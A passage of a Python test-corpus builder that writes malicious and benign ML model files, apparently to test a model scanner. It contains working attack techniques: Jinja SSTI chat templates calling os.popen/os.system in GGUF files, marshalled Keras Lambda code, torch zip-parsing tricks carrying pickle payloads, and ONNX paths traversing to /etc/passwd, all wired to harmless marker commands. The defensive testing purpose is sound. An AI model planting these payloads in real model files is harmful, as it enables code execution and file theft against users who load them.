    if trick == "data-descriptor":
        return torch_zip(proto, payload, descriptor=True, deflate=True)
    if trick == "odd-archive-folder":
        return torch_zip(proto, payload, prefix="resnet50_weights_final")
    if trick.startswith("duplicate"):
        members = [
            ZipMember(name, data) for name, data in torch_zip_members(proto) if not name.endswith("data.pkl")
        ]
        pair = [ZipMember("archive/data.pkl", honest_pkl), ZipMember("archive/data.pkl", payload)]
        return write_zip((pair if trick == "duplicate-benign-first" else pair[::-1]) + members)
    if trick == "pickle-zip-polyglot":
        return payload + torch_zip(proto)
    if trick == "magic-number-eval":
        parts = list(torch_legacy_parts(proto))
        parts[0] = dump(call(G("builtins", "eval"), f"{Marker(path, Path()).expr} or {TORCH_MAGIC:#x}"), 2)
        return b"".join(parts)
    raise ValueError(trick)


# Which tricks torch.load still executes (checked by test_malicious_payloads_really_run): miniz reads the
# central directory and skips CRC checks; of two records with one name it reads the last.
ZIP_TRICK_EXECUTES = {
    "crc-mismatch": True,
    "flag-encrypted-local": True,
    "flag-encrypted-central": False,
    "flag-0x20-local": True,
    "flag-0x40-local": True,
    "local-name-mismatch": True,
    "duplicate-benign-first": True,
    "duplicate-evil-first": False,
    "deflated-data-pkl": True,
    "data-descriptor": True,
    "odd-archive-folder": True,
    "pickle-zip-polyglot": True,
    "magic-number-eval": True,
}
ZIP_TRICK_NOTE = {
    "flag-encrypted-central": "torch's miniz refuses an entry its central directory marks encrypted",
    "duplicate-evil-first": "torch reads the last of two records with one name: the honest one here",
}
ZIP_TRICK_TECHNIQUES = ("reduce-os-system", "codecs-rot13-names", "memo-replay-decoy-literals")


# --------------------------------------------------------------------------------------------------------
# Formats without pickles: Keras Lambda, GGUF chat templates, ONNX external data, safetensors gaps
# --------------------------------------------------------------------------------------------------------

KERAS_VERSION = "3.15.1"


def _keras_dtype() -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }


def _keras_tensor(layer: str) -> dict[str, Any]:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": [None, 4], "dtype": "float32", "keras_history": [layer, 0, 0]},
    }


def _keras_input() -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {
            "batch_shape": [None, 4],
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": "x",
            "optional": False,
        },
        "registered_name": None,
        "name": "x",
        "inbound_nodes": [],
    }


def _keras_lambda(code: str, name: str = "double") -> dict[str, Any]:
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": name,
            "trainable": True,
            "dtype": _keras_dtype(),
            "function": function,
            "arguments": {},
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "name": name,
        "inbound_nodes": [{"args": [_keras_tensor("x")], "kwargs": {"mask": None}}],
    }


def _keras_dense(units: int, inbound: str) -> dict[str, Any]:
    initializer = {
        "module": "keras.initializers",
        "class_name": "Zeros",
        "config": {},
        "registered_name": None,
    }
    config = {
        "name": "dense",
        "trainable": True,
        "dtype": _keras_dtype(),
        "units": units,
        "activation": "linear",
        "use_bias": True,
        "kernel_initializer": initializer,
        "bias_initializer": initializer,
        "kernel_regularizer": None,
        "bias_regularizer": None,
        "kernel_constraint": None,
        "bias_constraint": None,
        "quantization_config": None,
    }
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": config,
        "registered_name": None,
        "build_config": {"input_shape": [None, 4]},
        "name": "dense",
        "inbound_nodes": [{"args": [_keras_tensor(inbound)], "kwargs": {}}],
    }


def _keras_functional(layers: list[dict[str, Any]]) -> dict[str, Any]:
    config = {"name": "functional", "trainable": True, "layers": layers, "input_layers": ["x", 0, 0],
              "output_layers": [layers[-1]["name"], 0, 0]}  # fmt: skip
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config,
            "registered_name": "Functional", "build_config": {"input_shape": None}, "compile_config": {}}  # fmt: skip


def _keras_weights(dense: np.ndarray | None) -> bytes | None:
    """model.weights.h5 as Keras 3 writes it (None without h5py)."""
    try:
        import h5py
    except ImportError:
        return None
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        h5.create_group("layers/input_layer/vars").attrs["name"] = "x"
        if dense is None:
            h5.create_group("layers/lambda/vars").attrs["name"] = "double"
        else:
            group = h5.create_group("layers/dense/vars")
            group.attrs["name"] = "dense"
            group["0"], group["1"] = dense, np.zeros(dense.shape[1], dtype=np.float32)
        h5.create_group("vars").attrs["name"] = "functional"
    return buffer.getvalue()


def keras_file(layers: list[dict[str, Any]], dense: np.ndarray | None) -> bytes:
    members = {
        "metadata.json": json.dumps(
            {"keras_version": KERAS_VERSION, "date_saved": "2026-01-01@00:00:00"}
        ).encode(),
        "config.json": json.dumps(_keras_functional(layers)).encode(),
    }
    weights = _keras_weights(dense)
    if weights is not None:
        members["model.weights.h5"] = weights
    return zip_bytes(members)


def keras_lambda_code(m: Marker) -> str:
    function = eval(f"lambda x: ({m.expr}, x)[1]")  # noqa: S307 - compiles the harmless payload
    return base64.encodebytes(marshal.dumps(function.__code__)).decode()


def keras_h5_lambda(m: Marker) -> bytes | None:
    """A legacy Keras HDF5 model whose model_config holds the Lambda."""
    try:
        import h5py
    except ImportError:
        return None
    layers = [{k: v for k, v in layer.items() if k not in ("module", "registered_name", "build_config")}
              for layer in (_keras_input(), _keras_lambda(keras_lambda_code(m)))]  # fmt: skip
    config = {"class_name": "Functional", "config": {"name": "functional", "trainable": True, "layers": layers,
              "input_layers": ["x", 0, 0], "output_layers": ["double", 0, 0]}}  # fmt: skip
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as h5:
        h5.attrs["backend"], h5.attrs["keras_version"] = "torch", KERAS_VERSION
        h5.attrs["model_config"] = json.dumps(config)
        weights = h5.create_group("model_weights")
        weights.attrs["backend"], weights.attrs["keras_version"] = "torch", KERAS_VERSION
        weights.attrs["layer_names"] = np.array([b"x", b"double"], dtype=object)
        for name in ("x", "double", "top_level_model_weights"):
            weights.create_group(name).attrs["weight_names"] = np.array([], dtype=np.float64)
    return buffer.getvalue()


GGUF_STRING, GGUF_ARRAY, GGUF_UINT32 = 8, 9, 4


def _gguf_str(s: str) -> bytes:
    raw = s.encode()
    return struct.pack("<Q", len(raw)) + raw


def _gguf_value(value: Any) -> bytes:
    if isinstance(value, str):
        return struct.pack("<I", GGUF_STRING) + _gguf_str(value)
    if isinstance(value, int):
        return struct.pack("<II", GGUF_UINT32, value)
    if isinstance(value, list):
        return struct.pack("<IIQ", GGUF_ARRAY, GGUF_STRING, len(value)) + b"".join(
            _gguf_str(v) for v in value
        )
    raise TypeError(value)


def write_gguf(metadata: dict[str, Any]) -> bytes:
    """GGUF v3: magic, version, tensor count, kv count, the kv pairs, one tensor info, aligned tensor data."""
    tensor = np.arange(8, dtype=np.float32)
    out = b"GGUF" + struct.pack("<IQQ", 3, 1, len(metadata))
    for key, value in metadata.items():
        out += _gguf_str(key) + _gguf_value(value)
    out += (
        _gguf_str("token_embd.weight") + struct.pack("<IQ", 1, tensor.size) + struct.pack("<IQ", 0, 0)
    )  # F32
    out += b"\x00" * (-len(out) % 32)
    return out + tensor.tobytes()


CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def _gguf_metadata(template_key: str, template: str) -> dict[str, Any]:
    metadata: dict[str, Any] = {
        "general.architecture": "llama",
        "general.name": "tiny-chat",
        "general.alignment": 32,
        "tokenizer.ggml.model": "llama",
        "tokenizer.ggml.tokens": ["<s>", "</s>", "<|im_start|>", "<|im_end|>"],
    }
    if template_key != "tokenizer.chat_template":
        metadata["tokenizer.chat_template"] = CHATML
        metadata["tokenizer.chat_templates"] = [template_key.rsplit(".", 1)[1]]
    metadata[template_key] = template
    return metadata


GGUF_SSTI = {
    # (template key, template) ; CVE-2024-34359 (llama-cpp-python), CVE-2025-61620-style (vLLM), CVE-2026-5760 (SGLang)
    "ssti-cycler-globals": (
        "tokenizer.chat_template",
        CHATML + "{{ cycler.__init__.__globals__.os.popen({cmd!r}).read() }}",
    ),
    "ssti-subclasses-catch_warnings": (
        "tokenizer.chat_template",
        "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').system({cmd!r}) }}{% endif %}{% endfor %}" + CHATML,
    ),
    "ssti-named-template": (
        "tokenizer.chat_template.tool_use",
        CHATML + "{% set x = lipsum.__globals__['os'].popen({cmd!r}).read() %}",
    ),
}
GGUF_SOURCE = (
    "GGUF tokenizer.chat_template rendered by an unsandboxed jinja2.Environment: CVE-2024-34359 "
    "(llama-cpp-python), CVE-2026-5760 (SGLang, CERT/CC VU#915947)"
)


def onnx_external(location: str) -> bytes:
    from onnx import TensorProto, helper

    weight = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("Add", ["X", "W"], ["Y"])],
        "exfiltrate",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        [weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    return model.SerializeToString()


def safetensors_bytes(tensors: dict[str, np.ndarray], gap: bytes = b"", trailing: bytes = b"") -> bytes:
    """A safetensors file by the spec; `gap` is hidden between the first and second tensor's bytes (the
    offsets skip it), `trailing` after the last."""
    names = {np.dtype(np.float32): "F32", np.dtype(np.int64): "I64", np.dtype(np.float16): "F16"}
    header: dict[str, Any] = {"__metadata__": {"format": "np"}}
    body, offset = b"", 0
    for index, (name, array) in enumerate(tensors.items()):
        raw = np.ascontiguousarray(array).tobytes()
        if index == 1:
            body, offset = body + gap, offset + len(gap)
        header[name] = {
            "dtype": names[array.dtype],
            "shape": list(array.shape),
            "data_offsets": [offset, offset + len(raw)],
        }
        body, offset = body + raw, offset + len(raw)
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + body + trailing


# --------------------------------------------------------------------------------------------------------
# Building
# --------------------------------------------------------------------------------------------------------


@dataclass
class _Builder:
    root: Path
    kind: str
    samples: list[Sample] = field(default_factory=list)

    def write(self, rel: str, data: bytes) -> Path:
        path = self.root / self.kind / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return path

    def marker(self, sample_id: str) -> Marker:
        return Marker(str(self.root / "markers" / f"{MARKER_PREFIX}{sample_id}"), self.root / "aux")


def build_malicious(root: Path) -> list[Sample]:
    """Write every malicious sample under `root/malicious` (markers go to `root/markers`, which is created
    empty; companion files to `root/aux`)."""
    root = Path(root)
    (root / "markers").mkdir(parents=True, exist_ok=True)
    b = _Builder(root, "malicious")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        _build_pickle_matrix(b)
        _build_zip_tricks(b)
        _build_other_formats(b)
    return b.samples


def _build_pickle_matrix(b: _Builder) -> None:
    for tech in TECHNIQUES:
        for container in CONTAINERS:
            if tech.heavy and container.name not in _HEAVY_CONTAINERS:
                continue
            if tech.whole_only and container.name not in _WHOLE_STREAM:
                continue
            protocols = tech.protocols if container.name == "raw-pkl" else tech.protocols[-1:]
            for proto in protocols:
                sample_id = f"{tech.name}.{container.name}.p{proto}"
                marker = b.marker(sample_id)
                payload = tech.build(marker, proto)
                path = b.write(
                    f"{container.name}/{tech.name}.p{proto}{container.suffix}", container.pack(payload, proto)
                )
                executes, why = _executes(tech, container)
                b.samples.append(
                    Sample(
                        path,
                        tech.name,
                        container.name,
                        tech.source,
                        _loader(tech, container),
                        executes,
                        Path(marker.path),
                        container.requires,
                        why or container.note,
                    )
                )


def _build_zip_tricks(b: _Builder) -> None:
    for trick, source in ZIP_TRICK_SOURCE.items():
        names = ("builtins-eval",) if trick == "magic-number-eval" else ZIP_TRICK_TECHNIQUES
        for name in names:
            tech = technique_named(name)
            sample_id = f"{name}.torch-{trick}.p2"
            marker = b.marker(sample_id)
            proto = 2 if tech.protocols[-1] < 4 or trick == "magic-number-eval" else tech.protocols[-1]
            data = _zip_trick_bytes(trick, tech.build(marker, proto), 2, marker.path)
            path = b.write(f"torch-tricks/{trick}.{name}.pt", data)
            b.samples.append(
                Sample(
                    path,
                    name if trick != "magic-number-eval" else "magic-number-eval",
                    f"torch-{trick}",
                    source,
                    "torch",
                    ZIP_TRICK_EXECUTES[trick],
                    Path(marker.path),
                    note=ZIP_TRICK_NOTE.get(trick, ""),
                )
            )


def _build_other_formats(b: _Builder) -> None:
    keras_source = "Keras Lambda layer: marshal'd bytecode run on load_model(safe_mode=False); CVE-2024-3660"
    marker = b.marker("keras-lambda.keras")
    data = keras_file([_keras_input(), _keras_lambda(keras_lambda_code(marker))], None)
    b.samples.append(
        Sample(
            b.write("keras/lambda.keras", data),
            "keras-lambda",
            "keras",
            keras_source,
            "keras",
            True,
            Path(marker.path),
            ("keras",),
        )
    )
    marker = b.marker("keras-lambda.keras-dense")
    layers = [_keras_input(), _keras_lambda(keras_lambda_code(marker)), _keras_dense(2, "double")]
    data = keras_file(layers, np.zeros((4, 2), dtype=np.float32))
    b.samples.append(
        Sample(
            b.write("keras/lambda_then_dense.keras", data),
            "keras-lambda",
            "keras",
            keras_source,
            "keras",
            True,
            Path(marker.path),
            ("keras",),
        )
    )
    marker = b.marker("keras-lambda.h5")
    h5 = keras_h5_lambda(marker)
    if h5 is not None:
        b.samples.append(
            Sample(
                b.write("keras/lambda.h5", h5),
                "keras-lambda",
                "keras-h5",
                keras_source,
                "keras",
                True,
                Path(marker.path),
                ("keras",),
            )
        )

    for name, (key, template) in GGUF_SSTI.items():
        marker = b.marker(f"{name}.gguf")
        text = template.replace("{cmd!r}", repr(marker.cmd))
        data = write_gguf(_gguf_metadata(key, text))
        b.samples.append(
            Sample(
                b.write(f"gguf/{name}.gguf", data),
                name,
                "gguf",
                GGUF_SOURCE,
                "gguf-jinja",
                True,
                Path(marker.path),
                ("jinja2",),
            )
        )

    onnx_source = (
        "ONNX external_data location outside the model directory (arbitrary file read); CVE-2024-27318, "
        "CVE-2022-25882 (onnx >= 1.16 refuses it on load; other readers of the format may not)"
    )
    for name, location in (
        ("relative-traversal", "../../../../../../etc/passwd"),
        ("absolute-path", "/etc/passwd"),
    ):
        path = b.write(f"onnx/{name}.onnx", onnx_external(location))
        b.samples.append(Sample(path, f"onnx-external-{name}", "onnx", onnx_source, None, False,
                                note="reads a file; nothing to execute"))  # fmt: skip

    tensors = {"a": np.ones(4, dtype=np.float32), "b": np.zeros(4, dtype=np.float32)}
    for name, kwargs in (("gap", "gap"), ("trailing", "trailing")):
        marker = b.marker(f"safetensors-{name}")
        hidden = dump(call(SYSTEM, marker.cmd), 4)
        data = safetensors_bytes(tensors, **{kwargs: hidden})
        b.samples.append(
            Sample(
                b.write(f"safetensors/pickle-in-{name}.safetensors", data),
                f"safetensors-hidden-{name}",
                "safetensors",
                "bytes the safetensors header does not account for (a pickle hidden in them)",
                None,
                False,
                Path(marker.path),
                note="invalid safetensors; the hidden pickle is for a second stage",
            )
        )


# --------------------------------------------------------------------------------------------------------
# Benign corpus
# --------------------------------------------------------------------------------------------------------


def build_benign(root: Path) -> list[Sample]:
    """Write honest model files under `root/benign`."""
    b = _Builder(Path(root), "benign")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        _benign_torch(b)
        _benign_sklearn(b)
        _benign_numpy(b)
        _benign_plain_pickles(b)
        _benign_safetensors(b)
        _benign_onnx(b)
        _benign_other(b)
    return b.samples


def _add(b: _Builder, rel: str, data: bytes, what: str, container: str, loader: str | None = None) -> None:
    b.samples.append(Sample(b.write(rel, data), what, container, "benign", loader))


def _benign_torch(b: _Builder) -> None:
    torch = _torch()
    nn = torch.nn
    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 3))

    def saved(obj: Any, **kwargs: Any) -> bytes:
        buffer = io.BytesIO()
        torch.save(obj, buffer, **kwargs)
        return buffer.getvalue()

    _add(b, "torch/state_dict.pt", saved(model.state_dict()), "torch state dict", "torch-zip", "torch")
    _add(
        b,
        "torch/pytorch_model.bin",
        saved(model.state_dict()),
        "torch state dict (.bin)",
        "torch-zip",
        "torch",
    )
    _add(b, "torch/whole_module.pt", saved(model), "torch.save of an nn.Sequential", "torch-zip", "torch")
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    model(torch.randn(2, 8)).sum().backward()
    optimizer.step()
    checkpoint = {"epoch": 3, "model": model.state_dict(), "optimizer": optimizer.state_dict(), "loss": 0.25}
    _add(b, "torch/checkpoint.pt", saved(checkpoint), "training checkpoint", "torch-zip", "torch")
    tensors = {"half": torch.ones(4, dtype=torch.float16), "bf16": torch.ones(4, dtype=torch.bfloat16),
               "int8": torch.arange(4, dtype=torch.int8), "bool": torch.tensor([True, False])}  # fmt: skip
    _add(b, "torch/dtypes.pt", saved(tensors), "tensors of several dtypes", "torch-zip", "torch")
    legacy = saved(model.state_dict(), _use_new_zipfile_serialization=False)
    _add(b, "torch/legacy_state_dict.pt", legacy, "legacy-format state dict", "torch-legacy", "torch")
    scripted = torch.jit.script(model)
    buffer = io.BytesIO()
    torch.jit.save(scripted, buffer)
    _add(b, "torch/scripted.pt", buffer.getvalue(), "torch.jit.script", "torchscript", "torch-jit")
    traced = torch.jit.trace(model, torch.randn(1, 8))
    buffer = io.BytesIO()
    torch.jit.save(traced, buffer)
    _add(b, "torch/traced.pt", buffer.getvalue(), "torch.jit.trace", "torchscript", "torch-jit")


def _benign_sklearn(b: _Builder) -> None:
    import joblib
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.RandomState(0)
    x, y = rng.rand(60, 5), rng.randint(0, 3, 60)
    models = {
        "logreg": LogisticRegression(max_iter=200),
        "forest": RandomForestClassifier(n_estimators=4, max_depth=3, random_state=0),
        "pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]),
        "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=30, random_state=0),
    }
    for name, model in models.items():
        model.fit(x, y)
        for proto in (2, 3, 4, 5):
            _add(
                b,
                f"sklearn/{name}.p{proto}.pkl",
                pickle.dumps(model, protocol=proto),
                f"sklearn {name}",
                "pickle",
                "pickle",
            )
        for compression in (None, "zlib", "gzip", "bz2", "xz", "lzma"):
            buffer = io.BytesIO()
            joblib.dump(model, buffer, compress=(compression, 3) if compression else 0)
            suffix = f".{compression}" if compression else ""
            _add(
                b,
                f"sklearn/{name}.joblib{suffix}",
                buffer.getvalue(),
                f"sklearn {name} joblib",
                "joblib",
                "joblib",
            )
    arrays = {f"layer{i}": rng.rand(6, 6).astype(np.float32) for i in range(40)} | {"ids": np.arange(100)}
    for compression in (None, "zlib", "gzip", "bz2", "xz", "lzma"):
        buffer = io.BytesIO()
        joblib.dump(arrays, buffer, compress=(compression, 3) if compression else 0)
        suffix = f".{compression}" if compression else ""
        _add(
            b,
            f"sklearn/many_arrays.joblib{suffix}",
            buffer.getvalue(),
            "joblib of 41 arrays",
            "joblib",
            "joblib",
        )


def _benign_numpy(b: _Builder) -> None:
    arrays = {
        "float32": np.arange(24, dtype=np.float32).reshape(2, 3, 4),
        "int64": np.arange(10, dtype=np.int64),
        "bool": np.array([True, False, True]),
        "complex128": np.array([1 + 2j, 3 - 4j]),
        "uint8_image": np.zeros((8, 8, 3), dtype=np.uint8),
        "fortran_float64": np.asfortranarray(np.arange(12, dtype=np.float64).reshape(3, 4)),
        "structured": np.array([(1, 2.5), (3, 4.5)], dtype=[("a", "<i4"), ("b", "<f8")]),
        "unicode": np.array(["cat", "dog"], dtype="<U8"),
        "datetime64": np.array(["2024-01-01", "2024-06-30"], dtype="datetime64[D]"),
        "scalar": np.array(3.5),
    }
    for name, array in arrays.items():
        buffer = io.BytesIO()
        np.save(buffer, array)
        _add(b, f"numpy/{name}.npy", buffer.getvalue(), f"npy {name}", "numpy", "numpy")
    for compressed in (False, True):
        buffer = io.BytesIO()
        (np.savez_compressed if compressed else np.savez)(
            buffer, **{k: v for k, v in arrays.items() if k != "scalar"}
        )
        name = "savez_compressed" if compressed else "savez"
        _add(b, f"numpy/{name}.npz", buffer.getvalue(), f"npz {name}", "npz", "numpy")


def _benign_plain_pickles(b: _Builder) -> None:
    values = {
        "dict": {"lr": 0.01, "layers": [64, 32], "name": "mlp", "nested": {"a": (1, 2)}, "none": None},
        "list": [1, 2.5, "three", b"four", None, True],
        "ndarray": np.arange(12, dtype=np.float32).reshape(3, 4),
        "ordereddict": OrderedDict([("w", np.ones(3)), ("b", np.zeros(1))]),
        "datetime": {
            "saved": datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc),
            "day": date(2024, 5, 1),
            "took": timedelta(seconds=3),
        },
        "sets": {"labels": {"cat", "dog"}, "frozen": frozenset({1, 2})},
        "bytes": {"blob": bytes(range(256)), "mutable": bytearray(b"abc")},
        "complex-and-big-ints": [3 + 4j, 2**100, -(2**70), float("inf")],
    }
    for name, value in values.items():
        for proto in ALL_PROTOCOLS:
            _add(
                b,
                f"pickle/{name}.p{proto}.pkl",
                pickle.dumps(value, protocol=proto),
                f"pickle of {name}",
                "pickle",
                "pickle",
            )


def _benign_safetensors(b: _Builder) -> None:
    tensors = {"embed": np.ones((4, 3), dtype=np.float32), "ids": np.arange(5, dtype=np.int64),
               "scale": np.full(2, 0.5, dtype=np.float16)}  # fmt: skip
    _add(
        b,
        "safetensors/by_spec.safetensors",
        safetensors_bytes(tensors),
        "safetensors (by spec)",
        "safetensors",
    )
    try:
        from safetensors.numpy import save as save_numpy
    except ImportError:
        return
    data = save_numpy(tensors, metadata={"format": "np"})
    _add(b, "safetensors/model.safetensors", data, "safetensors (safetensors package)", "safetensors")
    try:
        from safetensors.torch import save as save_torch

        torch = _torch()
        data = save_torch({"w": torch.randn(3, 3), "b": torch.zeros(3, dtype=torch.bfloat16)})
        _add(b, "safetensors/torch.safetensors", data, "safetensors (torch)", "safetensors")
    except ImportError:
        pass


def _benign_onnx(b: _Builder) -> None:
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones(4, dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("Add", ["X", "W"], ["S"]), helper.make_node("Relu", ["S"], ["Y"])],
        "tiny",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])],
        [weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    _add(b, "onnx/helper.onnx", model.SerializeToString(), "onnx.helper graph", "onnx")
    try:
        from skl2onnx import to_onnx
        from sklearn.linear_model import LogisticRegression
    except ImportError:
        return
    rng = np.random.RandomState(0)
    x = rng.rand(30, 4).astype(np.float32)
    classifier = LogisticRegression(max_iter=200).fit(x, rng.randint(0, 2, 30))
    _add(b, "onnx/skl2onnx_logreg.onnx", to_onnx(classifier, x[:1]).SerializeToString(), "skl2onnx", "onnx")


def _benign_other(b: _Builder) -> None:
    _add(
        b,
        "gguf/chatml.gguf",
        write_gguf(_gguf_metadata("tokenizer.chat_template", CHATML)),
        "GGUF, ChatML",
        "gguf",
    )
    dense = np.full((4, 2), 0.5, dtype=np.float32)
    _add(
        b,
        "keras/dense.keras",
        keras_file([_keras_input(), _keras_dense(2, "x")], dense),
        "Keras Dense",
        "keras",
    )
    state = pickle.dumps({"w": np.ones(3)}, protocol=4)
    _add(
        b,
        "archives/models.zip",
        zip_bytes({"model.pkl": state, "w.npy": plain_npy()}),
        "zip of honest files",
        "zip",
    )
    tensors = safetensors_bytes({"w": np.ones(3, dtype=np.float32)})
    _add(
        b,
        "archives/models.tar.gz",
        tar_bytes({"model.safetensors": tensors}, "w:gz"),
        "tar.gz of safetensors",
        "tar-gz",
    )


def globals_in(data: bytes) -> set[tuple[str, str]]:
    """The (module, name) pairs a pickle stream imports with literal names (GLOBAL, INST, and STACK_GLOBAL
    of pushed or memoized strings), over every pickle of the stream; stops quietly at unparseable bytes."""
    found: set[tuple[str, str]] = set()
    stream = io.BytesIO(data)
    while stream.tell() < len(data):
        strings: list[Any] = []
        memo: dict[int, Any] = {}
        try:
            for op, arg, _pos in pickletools.genops(stream):
                if op.name in ("GLOBAL", "INST"):
                    found.add(tuple(arg.split(" ", 1)))  # type: ignore[arg-type]
                elif (
                    op.name == "STACK_GLOBAL"
                    and len(strings) >= 2
                    and all(isinstance(s, str) for s in strings[-2:])
                ):
                    found.add((strings[-2], strings[-1]))
                if isinstance(arg, str) and op.name not in ("GLOBAL", "INST"):
                    strings.append(arg)
                elif op.name in _MEMO_GETS:
                    strings.append(memo.get(int(arg)))
                elif op.name == "MEMOIZE" and strings:
                    memo[len(memo)] = strings[-1]
                elif op.name in _MEMO_PUTS and strings:
                    memo[int(arg)] = strings[-1]
        except Exception:  # noqa: BLE001 - trailing junk, or a deliberately broken stream
            break
    return found


def payload_modules(work_dir: Path) -> set[str]:
    """Every module a technique's payload names with a literal global, at any of its protocols (for the
    "scanning imports nothing" check). Companion files go to `work_dir`."""
    marker = Marker(str(Path(work_dir) / "markers" / f"{MARKER_PREFIX}probe"), Path(work_dir) / "aux")
    modules: set[str] = set()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for tech in TECHNIQUES:
            for proto in tech.protocols:
                found = globals_in(tech.build(marker, proto))
                modules |= {module for module, _name in found if re.fullmatch(r"[A-Za-z_][\w.]*", module)}
    return modules
